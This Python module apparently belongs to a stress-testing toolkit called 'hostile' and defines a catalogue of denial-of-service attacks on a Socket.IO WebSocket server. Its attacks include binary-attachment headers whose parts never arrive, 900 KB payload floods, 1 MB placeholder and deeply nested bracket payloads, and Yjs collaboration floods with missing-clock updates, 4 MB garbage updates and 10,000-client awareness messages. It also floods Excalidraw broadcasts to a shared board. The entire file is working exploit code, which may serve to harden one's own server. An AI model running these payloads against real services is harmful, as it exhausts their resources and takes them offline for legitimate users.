"""Attacks with binary parts, and on what takes them: relay, documents, boards."""

import base64
from collections.abc import Callable, Iterator

from hostile.attack import Attack, Context, many
from hostile.packets import flooded
from hostile.wire import Closed, Opcode, WebSocket, frame

_PART_BYTES = 900_000
_PLACEHOLDER = '{"_placeholder":true,"num":0}'
_RELAY = f'["relay",{{"channel":"c","data":{_PLACEHOLDER}}}]'


def _binary(data: bytes) -> bytes:
    return frame(data, Opcode.BINARY)


def never_whole(context: Context) -> None:
    """Hold 400 WebSockets, each with a header that has two parts, of which one of 900 KB comes."""
    data = frame(f"452-{_RELAY}") + _binary(bytes(_PART_BYTES))

    def script() -> Iterator[bytes | float]:
        yield data

    context.flood(400, lambda context: context.websocket(), script)


def by_polling(context: Context) -> None:
    """POST a header and 700 KB of base64 again and again."""
    part = base64.b64encode(bytes(700_000)).decode()

    def act(context: Context) -> None:
        polling = context.polling()
        try:
            while True:
                context.counts["packets"] += 1
                polling.post(f"451-{_RELAY}\x1eb{part}")
                polling.poll()
        finally:
            polling.close()

    context.repeat(act, threads=2)


def on_document(name: str, *packets: bytes, count: int = 4) -> Callable[[Context], None]:
    """Open a document in several editors, and send it the same for ever. ``packets``: what follows each other."""

    def start(context: Context) -> WebSocket:
        websocket = context.websocket(joins=False)
        websocket.say(f"40/yjs|{name},")
        try:
            websocket.wait_for(f"40/yjs|{name},")
        except Closed:
            websocket.close()
            raise
        return websocket

    return lambda context: context.flood(count, start, many(b"".join(packets)))


def _event(name: str, event: str, part: bytes) -> bytes:
    return frame(f'451-/yjs|{name},["{event}",{_PLACEHOLDER}]') + _binary(part)


def _number(number: int) -> bytes:
    """Return a number as Yjs writes it (lib0, variable length)."""
    data = bytearray()
    while number > 0x7F:
        data.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*data, number])


def _letter(client_id: int, clock: int) -> bytes:
    """Return an update that inserts a letter after the letter before it, which nobody has."""
    client = _number(client_id)
    return b"\x01\x01" + client + _number(clock) + b"\x84" + client + _number(clock - 1) + b"\x01x\x00"


def many_documents(context: Context) -> None:
    """Open new documents without end, several on a connection, each with a little text in it."""

    def act(context: Context) -> None:
        websocket = context.websocket(joins=False)
        try:
            for _ in range(50):
                context.counts["documents"] += 1
                name = f"{id(context)}-{context.counts['documents']}"
                websocket.say(f"40/yjs|{name},")
                websocket.send(_event(name, "sync-update", b"\x01\x01\x05\x00\x04\x01\x07content\x01x\x00"))
                websocket.read(0.005)
                websocket.received.clear()
        finally:
            websocket.close()

    context.repeat(act, threads=4)


def on_board(context: Context) -> None:
    """Draw 900 KB again and again on a board that eight look at, who read."""
    said = frame(f'452-/excalidraw,["server-broadcast","b",{_PLACEHOLDER},{{"_placeholder":true,"num":1}}]')

    def start(context: Context) -> WebSocket:
        websocket = context.websocket(joins=False)
        websocket.say("40/excalidraw,")
        websocket.say('42/excalidraw,["join-room","b"]')
        return websocket

    context.flood(8, start, many(said + _binary(bytes(_PART_BYTES)) + _binary(b"iv"), pause_s=0.05))


_NAME = "hostile"
_GAPS = [_event(_NAME, "sync-update", _letter(7, clock)) for clock in range(2, 2000, 2)]
_AWARENESS = _number(10_000) + b"".join(_number(n) + b"\x01\x02{}" for n in range(10_000))

ATTACKS = (
    Attack("parts-never", "15", "400 headers whose second part never comes, 900 KB of the first", never_whole),
    Attack(
        "parts-refused",
        "15",
        "1 MB of parts in an event that takes none",
        flooded(frame('451-["message",{"message":' + _PLACEHOLDER + "}]") + _binary(bytes(_PART_BYTES)), count=2),
    ),
    Attack(
        "parts-relay", "15", "parts of 16 KB, relayed", flooded(frame(f"451-{_RELAY}") + _binary(bytes(16_000)), count=2)
    ),
    Attack(
        "parts-placeholders",
        "15",
        "1 MB of placeholders in a header with one part",
        flooded(frame('451-["relay",[' + ",".join([_PLACEHOLDER] * 30_000) + "]]") + _binary(b"x"), count=2),
    ),
    Attack(
        "parts-deep",
        "15",
        "1 MB of brackets beside a part",
        flooded(frame('451-["relay",' + "[" * 490_000 + "]" * 490_000 + "]") + _binary(b"x"), count=2),
    ),
    Attack("parts-loose", "15", "parts that belong to nothing", flooded(_binary(bytes(1000)), count=4)),
    Attack("parts-polling", "15", "a header and 700 KB of base64 by polling", by_polling),
    Attack("document-many", "16", "new documents without end", many_documents),
    Attack(
        "document-letters",
        "16",
        "updates of one letter that is there already",
        on_document(_NAME, _event(_NAME, "sync-update", b"\x01\x01\x05\x00\x04\x01\x07content\x01x\x00") * 500),
    ),
    Attack("document-gaps", "16", "updates that wait for what never comes", on_document(_NAME, *_GAPS)),
    Attack(
        "document-large",
        "16",
        "4 MB updates that are none",
        on_document(_NAME, _event(_NAME, "sync-update", b"\xff" * 4_000_000)),
    ),
    Attack(
        "document-awareness",
        "16",
        "awareness of 10,000 others",
        on_document(_NAME, _event(_NAME, "awareness-update", _AWARENESS)),
    ),
    Attack(
        "document-vectors",
        "16",
        "a document's whole contents asked for again and again",
        on_document(_NAME, frame(f'451-/yjs|{_NAME},1["sync-step-1",{_PLACEHOLDER}]') + _binary(b"\0")),
    ),
    Attack("board", "16", "900 KB again and again to a board of eight", on_board),
)
